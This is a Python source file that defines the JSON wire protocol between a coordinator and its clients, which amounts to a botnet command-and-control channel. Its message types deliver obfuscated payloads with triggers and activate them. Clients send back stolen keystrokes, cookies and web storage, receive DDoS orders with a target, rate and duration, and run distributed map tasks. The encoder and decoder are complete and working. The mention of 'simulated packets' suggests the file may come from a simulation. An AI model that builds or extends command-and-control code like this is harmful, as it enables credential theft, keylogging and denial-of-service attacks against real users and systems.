"""Command-channel message protocol between the coordinator and clients.

A Frame is one UTF-8 JSON text with a "type" discriminator and sorted keys;
the same frames travel over live WebSocket text messages and simulated
packets. The codec is pure: encoding is byte-deterministic and decoding is
its exact inverse, rejecting anything else with a typed error.

See docs/wire.md for the byte-exact grammar.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Union

from .payload import (
    MAP_FNS,
    MAX_U64,
    ObfuscatedBlob,
    TriggerSpec,
    blob_from_dict,
    blob_to_dict,
    trigger_from_dict,
    trigger_to_dict,
    PayloadError,
)


class FrameError(ValueError):
    """Base class for frame decode errors."""


class MalformedJson(FrameError):
    """Input is not a single JSON object; carries the failing byte offset."""

    def __init__(self, message: str, offset: int = 0):
        super().__init__(f"{message} (at byte {offset})")
        self.offset = offset


class UnknownType(FrameError):
    """The "type" discriminator names no known message."""

    def __init__(self, type_name):
        super().__init__(f"unknown frame type {type_name!r}")
        self.type_name = type_name


class MissingField(FrameError):
    """A required field is absent."""

    def __init__(self, field_name: str):
        super().__init__(f"missing field {field_name!r}")
        self.field_name = field_name


class InvalidField(FrameError):
    """A field is present but has the wrong type or an out-of-range value."""

    def __init__(self, field_name: str, reason: str):
        super().__init__(f"invalid field {field_name!r}: {reason}")
        self.field_name = field_name


# --------------------------------------------------------------------------
# Message variants

@dataclass(frozen=True)
class KeystrokeEvent:
    key: str
    tick: int


@dataclass(frozen=True)
class Register:
    client_id: str


@dataclass(frozen=True)
class PayloadDelivery:
    payload_id: str
    code: ObfuscatedBlob
    trigger: TriggerSpec


@dataclass(frozen=True)
class Activate:
    trigger_token: str


@dataclass(frozen=True)
class ExfilKeystrokes:
    client_id: str
    events: tuple

    def __post_init__(self) -> None:
        object.__setattr__(self, "events", tuple(self.events))


@dataclass(frozen=True)
class ExfilStorage:
    client_id: str
    cookies: dict
    web_storage: dict


@dataclass(frozen=True)
class MapAssign:
    task_id: int
    fn_id: str
    chunk: str


@dataclass(frozen=True)
class MapResult:
    task_id: int
    client_id: str
    value: dict


@dataclass(frozen=True)
class DdosCommand:
    target: str
    rate: int
    duration: int


@dataclass(frozen=True)
class Terminate:
    pass


Message = Union[
    Register,
    PayloadDelivery,
    Activate,
    ExfilKeystrokes,
    ExfilStorage,
    MapAssign,
    MapResult,
    DdosCommand,
    Terminate,
]

Frame = str


# --------------------------------------------------------------------------
# Encoding

def encode_frame(m: Message) -> Frame:
    """Serialize a Message to its canonical frame: one JSON object, keys
    sorted at every level, compact separators. Pure and deterministic."""
    if isinstance(m, Register):
        obj = {"type": "Register", "client_id": m.client_id}
    elif isinstance(m, PayloadDelivery):
        obj = {
            "type": "PayloadDelivery",
            "payload_id": m.payload_id,
            "code": blob_to_dict(m.code),
            "trigger": trigger_to_dict(m.trigger),
        }
    elif isinstance(m, Activate):
        obj = {"type": "Activate", "trigger_token": m.trigger_token}
    elif isinstance(m, ExfilKeystrokes):
        obj = {
            "type": "ExfilKeystrokes",
            "client_id": m.client_id,
            "events": [{"key": e.key, "tick": e.tick} for e in m.events],
        }
    elif isinstance(m, ExfilStorage):
        obj = {
            "type": "ExfilStorage",
            "client_id": m.client_id,
            "cookies": dict(m.cookies),
            "web_storage": dict(m.web_storage),
        }
    elif isinstance(m, MapAssign):
        obj = {"type": "MapAssign", "task_id": m.task_id, "fn_id": m.fn_id, "chunk": m.chunk}
    elif isinstance(m, MapResult):
        obj = {
            "type": "MapResult",
            "task_id": m.task_id,
            "client_id": m.client_id,
            "value": dict(m.value),
        }
    elif isinstance(m, DdosCommand):
        obj = {"type": "DdosCommand", "target": m.target, "rate": m.rate, "duration": m.duration}
    elif isinstance(m, Terminate):
        obj = {"type": "Terminate"}
    else:
        raise TypeError(f"not a Message: {m!r}")
    return json.dumps(obj, sort_keys=True, separators=(",", ":"), ensure_ascii=False)


# --------------------------------------------------------------------------
# Decoding

def _get(obj: dict, name: str):
    if name not in obj:
        raise MissingField(name)
    return obj[name]


def _get_str(obj: dict, name: str, allow_empty: bool = True) -> str:
    value = _get(obj, name)
    if not isinstance(value, str):
        raise InvalidField(name, f"expected string, got {type(value).__name__}")
    if not allow_empty and not value:
        raise InvalidField(name, "must be non-empty")
    return value


def _get_u64(obj: dict, name: str, minimum: int = 0) -> int:
    value = _get(obj, name)
    if isinstance(value, bool) or not isinstance(value, int):
        raise InvalidField(name, f"expected integer, got {type(value).__name__}")
    if not minimum <= value <= MAX_U64:
        raise InvalidField(name, f"out of range: {value}")
    return value


def _get_str_map(obj: dict, name: str) -> dict:
    value = _get(obj, name)
    if not isinstance(value, dict):
        raise InvalidField(name, f"expected object, got {type(value).__name__}")
    for k, v in value.items():
        if not isinstance(k, str) or not isinstance(v, str):
            raise InvalidField(name, "expected string keys and values")
    return value


def decode_frame(frame) -> Message:
    """Parse a frame back to its Message; exact inverse of encode_frame.

    Never raises anything but a FrameError subclass, however mangled the
    input: MalformedJson (with byte offset), UnknownType, MissingField,
    InvalidField.
    """
    if isinstance(frame, (bytes, bytearray)):
        try:
            frame = bytes(frame).decode("utf-8")
        except UnicodeDecodeError as exc:
            raise MalformedJson("invalid UTF-8", exc.start) from exc
    if not isinstance(frame, str):
        raise MalformedJson(f"expected text, got {type(frame).__name__}")
    try:
        obj = json.loads(frame)
    except json.JSONDecodeError as exc:
        raise MalformedJson(f"bad JSON: {exc.msg}", exc.pos) from exc
    if not isinstance(obj, dict):
        raise MissingField("type")
    if "type" not in obj:
        raise MissingField("type")
    frame_type = obj["type"]
    if not isinstance(frame_type, str):
        raise InvalidField("type", "expected string")

    if frame_type == "Register":
        return Register(client_id=_get_str(obj, "client_id"))
    if frame_type == "PayloadDelivery":
        code = _get(obj, "code")
        if not isinstance(code, dict):
            raise InvalidField("code", "expected object")
        try:
            blob = blob_from_dict(code)
        except PayloadError as exc:
            raise InvalidField("code", str(exc)) from exc
        try:
            trig = trigger_from_dict(_get(obj, "trigger"))
        except PayloadError as exc:
            raise InvalidField("trigger", str(exc)) from exc
        return PayloadDelivery(payload_id=_get_str(obj, "payload_id"), code=blob, trigger=trig)
    if frame_type == "Activate":
        return Activate(trigger_token=_get_str(obj, "trigger_token"))
    if frame_type == "ExfilKeystrokes":
        raw = _get(obj, "events")
        if not isinstance(raw, list):
            raise InvalidField("events", "expected array")
        events = []
        for item in raw:
            if not isinstance(item, dict):
                raise InvalidField("events", "expected array of objects")
            events.append(KeystrokeEvent(key=_get_str(item, "key"), tick=_get_u64(item, "tick")))
        return ExfilKeystrokes(client_id=_get_str(obj, "client_id"), events=tuple(events))
    if frame_type == "ExfilStorage":
        return ExfilStorage(
            client_id=_get_str(obj, "client_id"),
            cookies=_get_str_map(obj, "cookies"),
            web_storage=_get_str_map(obj, "web_storage"),
        )
    if frame_type == "MapAssign":
        fn_id = _get_str(obj, "fn_id")
        if fn_id not in MAP_FNS:
            raise InvalidField("fn_id", f"expected one of {MAP_FNS}")
        return MapAssign(task_id=_get_u64(obj, "task_id"), fn_id=fn_id, chunk=_get_str(obj, "chunk"))
    if frame_type == "MapResult":
        value = _get(obj, "value")
        if not isinstance(value, dict):
            raise InvalidField("value", "expected object")
        for k, v in value.items():
            if not isinstance(k, str) or isinstance(v, bool) or not isinstance(v, int):
                raise InvalidField("value", "expected string keys and integer values")
        return MapResult(
            task_id=_get_u64(obj, "task_id"),
            client_id=_get_str(obj, "client_id"),
            value=value,
        )
    if frame_type == "DdosCommand":
        return DdosCommand(
            target=_get_str(obj, "target"),
            rate=_get_u64(obj, "rate", minimum=1),
            duration=_get_u64(obj, "duration", minimum=1),
        )
    if frame_type == "Terminate":
        return Terminate()
    raise UnknownType(frame_type)
